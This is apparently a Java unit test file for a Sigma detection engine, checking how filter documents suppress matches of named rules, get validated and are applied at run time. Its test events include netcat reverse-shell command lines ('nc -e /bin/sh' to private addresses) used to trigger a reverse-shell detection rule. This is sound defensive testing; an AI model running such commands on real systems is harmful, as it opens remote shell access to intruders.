package dev.bulwark.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import dev.bulwark.schemas.ProcessInfo;
import dev.bulwark.schemas.SecurityEvent;

/**
 * Sigma filter documents (Sigma filters specification v2.1): parsed and validated like rules, applied to the rules
 * they name as the reference implementation applies them ({@code (rule condition) and (filter condition)}, so a
 * filter is written {@code condition: not selection}), and every suppressed match counted.
 */
class SigmaFilterTest {

    static final String NETCAT = "7f734ed0-4f47-46c0-837f-6ee62505abd9";

    /** The specification's example, on a Linux logsource and with the reference implementation's {@code not}. */
    static final String ADMINS = """
            title: Filter Administrator account
            id: 3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10
            description: The valid administrator account start with adm_
            date: 2025-08-02
            logsource:
                category: process_creation
                product: linux
            filter:
                rules:
                    - 7f734ed0-4f47-46c0-837f-6ee62505abd9 # Potential Netcat Reverse Shell Execution
                    - whoami_run
                selection:
                    User|startswith: 'adm_'
                condition: not selection
            """;

    private final SigmaEngine engine = SigmaEngine.create();

    private static SecurityEvent exec(String executable, String commandLine, String user) {
        SecurityEvent event = SigmaTestSupport.exec(executable, commandLine);
        ProcessInfo process = ProcessInfo.newBuilder(event.getProcess()).setUserName(user).build();
        return SecurityEvent.newBuilder(event).setProcess(process).build();
    }

    private static SecurityEvent netcat(String user) {
        return exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", user);
    }

    private static SecurityEvent whoami(String user) {
        return exec("/usr/bin/whoami", "whoami", user);
    }

    private LoadReport load(String... files) {
        Map<String, String> sources = new LinkedHashMap<>(RuleSource.bundledTexts());
        sources.put("whoami.yml", SigmaDetectorTest.WHOAMI);
        sources.put("id.yml", SigmaDetectorTest.ID);
        for (int i = 0; i < files.length; i++) {
            sources.put("filter" + i + ".yml", files[i]);
        }
        return engine.loadSources(sources);
    }

    private static List<String> matched(CompiledRuleSet rules, SecurityEvent event) {
        return rules.match(event).stream().map(m -> m.rule().key()).toList();
    }

    // ---------------------------------------------------------------- applying

    @Test
    void aFilterSuppressesTheNamedShippedRuleForMatchingEventsOnly() {
        LoadReport report = load(ADMINS);
        assertThat(report.skipped()).isEmpty();
        assertThat(report.filters()).extracting(SigmaFilter::title).containsExactly("Filter Administrator account");
        CompiledRuleSet rules = report.ruleSet();

        assertThat(matched(rules, netcat("root"))).as("an event the filter does not select").containsExactly(NETCAT);
        CompiledRuleSet.Matches admin = rules.matchAll(netcat("adm_alice"));
        assertThat(admin.matches()).as("an event the filter selects").isEmpty();
        assertThat(admin.filtered()).singleElement().satisfies(f -> {
            assertThat(f.match().rule().id()).isEqualTo(NETCAT);
            assertThat(f.filter().id()).isEqualTo("3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10");
        });
        assertThat(rules.stats().matches()).isEqualTo(1);
        assertThat(rules.stats().filtered()).as("never silently lost: counted").isEqualTo(1);
        assertThat(rules.filtersOf(NETCAT)).hasSize(1);
    }

    @Test
    void aFilterNamesRulesByIdOrByNameAndLeavesOtherRulesAlone() {
        CompiledRuleSet rules = load(ADMINS).ruleSet();

        assertThat(matched(rules, whoami("adm_bob"))).as("whoami_run, named by its name").isEmpty();
        assertThat(matched(rules, whoami("bob"))).containsExactly("11111111-0000-4000-8000-000000000001");
        assertThat(matched(rules, exec("/usr/bin/id", "id", "adm_bob"))).as("id_run is not named")
                .containsExactly("11111111-0000-4000-8000-000000000002");
        assertThat(rules.stats().filtered()).isEqualTo(1);
    }

    @Test
    void severalFiltersOnOneRuleEachSuppressWhatTheySelect() {
        String second = ADMINS.replace("3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10", "second-filter")
                .replace("User|startswith: 'adm_'", "CommandLine|contains: '10.0.0.1'");
        CompiledRuleSet rules = load(ADMINS, second).ruleSet();

        assertThat(rules.matchAll(netcat("root")).filtered()).extracting(f -> f.filter().id())
                .containsExactly("second-filter");
        assertThat(rules.matchAll(netcat("adm_x")).filtered()).extracting(f -> f.filter().id())
                .containsExactly("3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10");
        assertThat(matched(rules, exec("/usr/bin/nc", "nc -e /bin/sh 10.9.9.9 1", "root"))).containsExactly(NETCAT);
    }

    @Test
    void aFilterAppliesOnlyToRulesWithinItsLogsource() {
        LoadReport broader = load(ADMINS.replace("    category: process_creation\n", ""));
        assertThat(broader.warnings()).isEmpty();
        assertThat(matched(broader.ruleSet(), netcat("adm_x"))).as("product: linux covers the rule").isEmpty();

        LoadReport other = load(ADMINS.replace("category: process_creation", "category: network_connection"));
        assertThat(other.skipped()).isEmpty();
        assertThat(other.warnings()).extracting(RuleProblem::reason)
                .anySatisfy(w -> assertThat(w).contains("rule '" + NETCAT + "' has logsource product: linux, "
                        + "category: process_creation, outside the filter's product: linux, category: "
                        + "network_connection: the filter does not apply to it"));
        assertThat(matched(other.ruleSet(), netcat("adm_x"))).containsExactly(NETCAT);
    }

    @Test
    void aFilterNamingNoLoadedRuleLoadsWithAWarningAndAppliesOnceTheRuleArrives() {
        String later = ADMINS.replace("- whoami_run", "- later_rule");
        LoadReport report = load(later);
        assertThat(report.filters()).hasSize(1);
        assertThat(report.warnings()).singleElement().satisfies(w -> {
            assertThat(w.location().file()).isEqualTo("filter0.yml");
            assertThat(w.reason()).isEqualTo("the filter names rule 'later_rule', which is not loaded; it applies once "
                    + "a rule with this id or name is loaded");
        });

        RuleSource source = RuleSource.of(engine, engine.loader().parse("f.yml", later));
        source.put("later", SigmaDetectorTest.WHOAMI.replace("whoami_run", "later_rule"));
        assertThat(matched(source.current().ruleSet(), whoami("adm_x"))).isEmpty();
        assertThat(source.current().ruleSet().stats().filtered()).isEqualTo(1);
    }

    @Test
    void aFilterWithoutNotLoadsWithAWarningSinceItKeepsOnlyWhatItSelects() {
        LoadReport report = load(ADMINS.replace("condition: not selection", "condition: selection"));
        assertThat(report.warnings()).singleElement().satisfies(w -> assertThat(w.reason())
                .startsWith("the filter's condition 'selection' has no 'not': a match is kept only when the condition "
                        + "is true"));
        CompiledRuleSet rules = report.ruleSet();
        assertThat(matched(rules, netcat("adm_x"))).containsExactly(NETCAT);
        assertThat(matched(rules, netcat("root"))).isEmpty();
    }

    @Test
    void theSpecificationsExamplesParse() {
        ParsedRules windows = engine.loader().parse("filter_1.yml", """
                title: Filter Administrator account
                description: The valid administrator account start with adm_
                logsource:
                    category: process_creation
                    product: windows
                filter:
                    rules:
                        - 6f3e2987-db24-4c78-a860-b4f4095a7095 # Data Compressed - rar.exe
                        - df0841c0-9846-4e9f-ad8a-7df91571771b # Login on jump host
                    selection:
                        User|startswith: 'adm_'
                    condition: selection
                """);
        ParsedRules ecs = engine.loader().parse("filter_ecs.yml", """
                title: Filter google
                description: User use google
                taxonomy: ecs
                logsource:
                    category: network
                    service: dns
                filter:
                    rules:
                        - 6f3e2987-db24-4c78-a860-b4f4095a7095 # rule 1
                        - df0841c0-9846-4e9f-ad8a-7df91571771b # rule 2
                    selection:
                        dns.question.name|startswith: 'www.google.'
                    condition: selection
                """);
        assertThat(windows.failures()).isEmpty();
        assertThat(ecs.failures()).isEmpty();
        SigmaFilter filter = windows.filters().get(0);
        assertThat(filter.id()).isNull();
        assertThat(filter.logsource()).isEqualTo(SigmaLogsource.of("windows", "process_creation", null));
        assertThat(filter.rules()).containsExactly("6f3e2987-db24-4c78-a860-b4f4095a7095",
                "df0841c0-9846-4e9f-ad8a-7df91571771b");
        assertThat(filter.detection().searches()).containsOnlyKeys("selection");
        assertThat(ecs.filters().get(0).taxonomy()).isEqualTo("ecs");
    }

    // ---------------------------------------------------------------- refusing

    @Test
    void invalidFiltersAreRefusedWithFileLineAndReason() {
        Map<String, String> broken = new LinkedHashMap<>();
        broken.put("no-title.yml", ADMINS.replace("title: Filter Administrator account\n", ""));
        broken.put("no-logsource.yml", ADMINS.replace("logsource:\n    category: process_creation\n    product: linux\n",
                ""));
        broken.put("no-rules.yml", ADMINS.replace("""
                    rules:
                        - 7f734ed0-4f47-46c0-837f-6ee62505abd9 # Potential Netcat Reverse Shell Execution
                        - whoami_run
                """, ""));
        broken.put("any.yml", ADMINS.replace("""
                    rules:
                        - 7f734ed0-4f47-46c0-837f-6ee62505abd9 # Potential Netcat Reverse Shell Execution
                        - whoami_run
                """, "    rules: any\n"));
        broken.put("twice.yml", ADMINS.replace("- whoami_run", "- " + NETCAT));
        broken.put("no-condition.yml", ADMINS.replace("    condition: not selection\n", ""));
        broken.put("conditions.yml", ADMINS.replace("condition: not selection", "condition: [not selection]"));
        broken.put("unknown-identifier.yml", ADMINS.replace("condition: not selection", "condition: not filter"));
        broken.put("no-selection.yml", ADMINS.replace("    selection:\n        User|startswith: 'adm_'\n", ""));
        broken.put("bad-modifier.yml", ADMINS.replace("User|startswith", "User|startswithx"));
        broken.put("bad-date.yml", ADMINS.replace("date: 2025-08-02", "date: 2025/08/02"));

        Map<String, String> reasons = new LinkedHashMap<>();
        for (Map.Entry<String, String> file : broken.entrySet()) {
            LoadReport report = engine.loadSources(Map.of(file.getKey(), file.getValue()));
            assertThat(report.filters()).as(file.getKey()).isEmpty();
            assertThat(report.skipped()).as(file.getKey()).singleElement()
                    .satisfies(p -> assertThat(p.location().file()).isEqualTo(file.getKey()))
                    .satisfies(p -> assertThat(p.location().line()).isPositive());
            reasons.put(file.getKey(), report.skipped().get(0).reason());
        }
        assertThat(reasons).containsExactly(
                Map.entry("no-title.yml", "the filter has no 'title'"),
                Map.entry("no-logsource.yml", "the filter has no 'logsource'"),
                Map.entry("no-rules.yml", "the filter has no 'rules' (the ids or names of the rules it applies to)"),
                Map.entry("any.yml", "'rules' must be a list of rule ids or names, not a string"),
                Map.entry("twice.yml", "'rules' lists '" + NETCAT + "' twice"),
                Map.entry("no-condition.yml", "the filter has no 'condition'"),
                Map.entry("conditions.yml", "the filter's 'condition' must be one string, not a list"),
                Map.entry("unknown-identifier.yml", reasons.get("unknown-identifier.yml")),
                Map.entry("no-selection.yml", "the detection has no search identifier"),
                Map.entry("bad-modifier.yml", reasons.get("bad-modifier.yml")),
                Map.entry("bad-date.yml", "'date' must be a date written YYYY-MM-DD, not '2025/08/02'"));
        assertThat(reasons.get("unknown-identifier.yml")).contains("filter");
        assertThat(reasons.get("bad-modifier.yml")).contains("startswithx");
    }

    @Test
    void aFilterWhoseConditionCanNeverBeTrueIsRefusedRatherThanSuppressingEverything() {
        LoadReport report = load(ADMINS.replace("User|startswith: 'adm_'", "NoSuchField: x")
                .replace("condition: not selection", "condition: selection"));
        assertThat(report.filters()).isEmpty();
        assertThat(report.skipped()).singleElement().satisfies(p -> assertThat(p.reason())
                .contains("the filter's condition can never be true").contains("NoSuchField"));
        assertThat(matched(report.ruleSet(), netcat("adm_x"))).containsExactly(NETCAT);
    }

    @Test
    void aFilterOfRulesNoSourceServesIsNotApplicable() {
        LoadReport report = engine.loadSources(Map.of("rar.yml", """
                title: Data Compressed - rar.exe
                id: 6f3e2987-db24-4c78-a860-b4f4095a7095
                logsource: {product: windows, category: process_creation}
                detection:
                    selection: {Image|endswith: '\\\\rar.exe'}
                    condition: selection
                """, "filter.yml", """
                title: Filter Administrator account
                id: admins
                logsource: {product: windows, category: process_creation}
                filter:
                    rules: [6f3e2987-db24-4c78-a860-b4f4095a7095]
                    selection: {User|startswith: 'adm_'}
                    condition: not selection
                """));
        assertThat(report.skipped()).isEmpty();
        assertThat(report.filters()).isEmpty();
        assertThat(report.notApplicable()).extracting(LoadReport.NotApplicable::rule)
                .containsExactlyInAnyOrder("6f3e2987-db24-4c78-a860-b4f4095a7095", "admins");
    }

    // ---------------------------------------------------------------- rules topic and directories

    @Test
    void aFilterOnTheRulesTopicAppliesAtRunTimeAndItsTombstoneLiftsIt() {
        RuleSource source = RuleSource.of(engine, RuleSource.bundled(engine.loader()));
        assertThat(matched(source.current().ruleSet(), netcat("adm_x"))).containsExactly(NETCAT);

        source.put("3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10", ADMINS);
        RuleSource.Snapshot filtered = source.current();
        assertThat(filtered.rejections()).isEmpty();
        assertThat(filtered.ruleSet().filters()).hasSize(1);
        assertThat(matched(filtered.ruleSet(), netcat("adm_x"))).isEmpty();
        assertThat(matched(filtered.ruleSet(), netcat("root"))).containsExactly(NETCAT);

        source.remove("3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10");
        assertThat(source.current().ruleSet().filters()).isEmpty();
        assertThat(matched(source.current().ruleSet(), netcat("adm_x"))).containsExactly(NETCAT);
    }

    @Test
    void anInvalidFilterRecordIsRejectedAndADuplicateFilterKeyToo() {
        RuleSource source = RuleSource.of(engine, RuleSource.bundled(engine.loader()));
        source.put("bad", ADMINS.replace("    condition: not selection\n", ""));
        source.put("a", ADMINS);
        source.put("b", ADMINS);

        RuleSource.Snapshot snapshot = source.current();
        assertThat(snapshot.rejections()).containsOnlyKeys("bad", "b");
        assertThat(snapshot.rejections().get("bad").problems()).singleElement()
                .satisfies(p -> assertThat(p.toString()).startsWith("bad:").endsWith("the filter has no 'condition'"));
        assertThat(snapshot.rejections().get("b").problems()).singleElement()
                .satisfies(p -> assertThat(p.reason()).isEqualTo("duplicate filter key "
                        + "'3f1f7b0e-6f0a-4a57-9d42-1b2a4c6e9f10': rules record 'a' already provides it"));
        assertThat(snapshot.ruleSet().filters()).hasSize(1);
    }
}
